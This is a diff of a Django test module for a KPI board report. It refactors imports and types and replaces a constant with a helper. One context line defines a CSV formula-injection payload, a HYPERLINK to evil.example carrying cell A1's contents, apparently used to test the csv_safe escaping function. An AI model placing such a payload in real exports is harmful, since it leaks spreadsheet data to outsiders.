@@ -14,18 +14,18 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
+from kpis.engine.compute import compute_return
+from kpis.engine.figures import IndicatorFigures, ReturnFigures, TargetSetting
+from kpis.engine.periods import YEAR_TO_DATE, FinancialYear
+from kpis.engine.rules import Figure
 from kpis.frameworks import framework_for
-from kpis.indicators import Figure
-from kpis.periods import YEAR_TO_DATE, FinancialYear
-from kpis.returns import IndicatorRow, KpiReturn, TargetSetting, compute_return
 from reports.board_report import (
-    EVENT_MEASURES,
     board_report_rows,
     count_cells,
-    csv_safe,
     report_periods,
     report_relations,
 )
+from reports.formulas import csv_safe
 from tests.factories import ContractFactory
 from tests.kpis.datasets import make_cornwall_records, make_wolverhampton_records
 from tests.kpis.factories import InitiativeFactory
@@ -38,7 +38,7 @@ HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
 def report_url(contract, year: int = 2025, query: str = "") -> str:
-    url = reverse("kpis:board_report", kwargs={"pk": contract.pk, "year": year})
+    url = reverse("reports:board_report", kwargs={"pk": contract.pk, "year": year})
     return f"{url}?{query}" if query else url
 
 
@@ -252,6 +252,12 @@ QUARTERS_OF = {"Q1": (0,), "Q2": (1,), "Q3": (2,), "Q4": (3,), "H1": (0, 1), "H2
 QUARTERS_OF["FY"] = (0, 1, 2, 3)
 
 
+def event_measures(framework_code: str) -> dict[str, frozenset[str]]:
+    """The measures each indicator declares count dated events (kpis.frameworks)."""
+    indicators = framework_for(framework_code).indicators
+    return {indicator.code: indicator.events for indicator in indicators if indicator.events}
+
+
 def spans(framework_code: str, over: int) -> dict[str, tuple[int, ...]]:
     """The report's columns as the quarters each covers (the year to date: those over)."""
     columns = {name: QUARTERS_OF[name] for name, _ in framework_for(framework_code).columns}
@@ -266,23 +272,25 @@ def events(framework_code: str, quarters, over: int, figure=Figure) -> dict:
     }
 
 
-def a_return(framework_code: str, figures: dict[str, dict[str, Figure]], over: int) -> KpiReturn:
+def a_return(
+    framework_code: str, figures: dict[str, dict[str, Figure]], over: int
+) -> ReturnFigures:
     framework = framework_for(framework_code)
     rows = tuple(
-        IndicatorRow(framework.indicator(code), TargetSetting(None, "Monitor only"), by_period)
+        IndicatorFigures(framework.indicator(code), TargetSetting(None, "Monitor only"), by_period)
         for code, by_period in figures.items()
     )
-    today = WITH_QUARTERS_OVER[over]
-    return KpiReturn(None, framework, YEAR, rows, YEAR.year_to_date(today), over)
+    columns = next(iter(figures.values())).keys() if figures else ()
+    return ReturnFigures(framework, YEAR, rows, tuple(columns), quarters_elapsed=over)
 
 
-def shown(kpi_return: KpiReturn, code: str, measure: str = "count", category: str = "") -> dict:
+def shown(kpi_return: ReturnFigures, code: str, measure: str = "count", category: str = "") -> dict:
     rows = board_report_rows(kpi_return, suppress_small_numbers=True)
     cells = line(rows, code, measure, category)
     return {period: cells[heading] for period, heading in headings(kpi_return).items()}
 
 
-def headings(kpi_return: KpiReturn) -> dict[str, str]:
+def headings(kpi_return: ReturnFigures) -> dict[str, str]:
     names = dict(kpi_return.framework.columns)
     return {p: names.get(p, "Year to date") for p in report_periods(kpi_return)}
 
@@ -452,7 +460,7 @@ def test_every_relation_it_relies_on_holds_on_computed_figures(
         assert relations
         assert [r for r in relations if not r.holds(counts)] == []
         # Not a vacuous check: each event measure's quarters are not all 0.
-        for code, measures in EVENT_MEASURES.items():
+        for code, measures in event_measures(framework_code).items():
             if code in {row.indicator.code for row in kpi_return.rows}:
                 quarters = [key for key in counts if key[0] == code and key[1] in measures]
                 assert any(counts[key] for key in quarters), code
